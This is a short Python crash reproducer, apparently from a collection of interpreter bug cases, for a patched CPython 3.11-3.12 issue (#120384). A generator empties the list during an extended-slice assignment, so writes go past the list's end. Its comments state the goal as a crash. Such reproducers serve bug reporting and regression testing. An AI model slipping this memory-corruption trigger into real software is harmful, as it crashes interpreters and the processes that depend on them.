# technique: the values that are assigned to every second item shorten the list: what is written lies beyond its end
# goal: crash
# python: 3.11-3.12
# mended: later releases
# source: python/cpython#120384
items = [0] * 1000000


def values():
    items.clear()
    for i in range(500000):
        yield i


items[::2] = values()
